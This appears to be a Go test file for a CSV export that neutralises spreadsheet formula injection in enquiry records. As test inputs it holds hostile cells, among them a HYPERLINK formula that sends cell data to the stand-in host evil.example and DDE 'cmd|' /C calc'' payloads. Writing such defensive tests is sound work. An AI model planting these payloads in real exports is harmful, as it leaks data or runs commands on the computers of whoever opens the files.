package enquiry

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
)

func TestNeutraliseFormula(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Ada", "Ada"},
		{"a=1", "a=1"},
		{"=1+1", "'=1+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"+1 253-863-8967", "'+1 253-863-8967"}, // every such cell, phone numbers too
		{"-42", "'-42"},
		{"-2+3", "'-2+3"},
		{"+cmd|' /C calc'!", "'+cmd|' /C calc'!"},
		{"\tx", "'\tx"},
		{"\r=1", "'\r'=1"},
		{"  =1", "  '=1"},
		// A cell that begins where a reader splits: after a separator of either kind, a line
		// break (a reader that does not take our quotes ends the line there) or a quote.
		{"Bob;=2+5;x", "Bob;'=2+5;x"},
		{"Bob,=2+5", "Bob,'=2+5"},
		{"hello; @SUM(A1)", "hello; '@SUM(A1)"},
		{"a\t+1", "a\t'+1"},
		{"Line one\r\n=2+2", "Line one\r\n'=2+2"},
		{"Line one\n-- Ada", "Line one\n'-- Ada"},
		{`x;"=1+1"`, `x;"'=1+1"`},
		{"a;;=1", "a;;'=1"},
		// Inside a word or after other punctuation, nothing is changed.
		{"Ada Lovelace-Byron", "Ada Lovelace-Byron"},
		{"ada+news@example.com", "ada+news@example.com"},
		{"1;2,3", "1;2,3"},
		{"Price: -5%", "Price: -5%"},
		{"José; Núñez", "José; Núñez"},
	}
	for _, tt := range tests {
		if got := neutraliseFormula(tt.in); got != tt.want {
			t.Errorf("neutraliseFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// Whatever separator a spreadsheet reads the export with (',' as written, ';' as Excel does in
// many European locales, a tab), and however it splits it, no cell it sees starts a formula.
func TestCSVStartsNoFormulaWithAnySeparator(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
		"\t=1+1", "\r=1+1", "\r\n=2+2", "Bob;=2+5;x", "hello;=cmd|' /C calc'!A0", "a\"b;=1+1", `x;"=1+1"`,
		"Hi;=HYPERLINK(CHAR(104)&E2)", "a,=1", "a\t@x", "line\n+1", "a; =1", "a;\"\"=1", `a;""";=1`,
	}
	var list []Enquiry
	for i, s := range hostile {
		list = append(list, Enquiry{ID: "id", Name: s, Email: "e" + s, Phone: s, Message: "m\n" + s,
			ReceivedAt: time.Date(2026, 3, 1, 9, 0, i, 0, time.UTC), Via: ViaForm})
	}
	var out bytes.Buffer
	if err := WriteCSV(&out, list); err != nil {
		t.Fatal(err)
	}
	for _, separator := range []rune{',', ';', '\t'} {
		reader := csv.NewReader(strings.NewReader(out.String()))
		reader.Comma, reader.LazyQuotes, reader.FieldsPerRecord = separator, true, -1
		records, err := reader.ReadAll()
		if err != nil {
			t.Fatalf("read with %q: %v", separator, err)
		}
		cells := 0
		for _, record := range records {
			for _, cell := range record {
				cells++
				if trimmed := strings.TrimLeft(cell, " \t\r\n"); trimmed != "" && strings.ContainsRune("=+-@", rune(trimmed[0])) {
					t.Errorf("read with %q, a cell starts a formula: %q", separator, cell)
				}
			}
		}
		if cells <= len(hostile) {
			t.Fatalf("read with %q: only %d cells", separator, cells)
		}
	}
	// Without the apostrophes, the same reading finds formulas: the check above can fail.
	reader := csv.NewReader(strings.NewReader("id,name\r\n1,Bob;=2+5;x\r\n"))
	reader.Comma, reader.LazyQuotes, reader.FieldsPerRecord = ';', true, -1
	if records, _ := reader.ReadAll(); len(records) != 2 || len(records[1]) != 3 || records[1][1] != "=2+5" {
		t.Errorf("unneutralised reading = %q", records)
	}
}
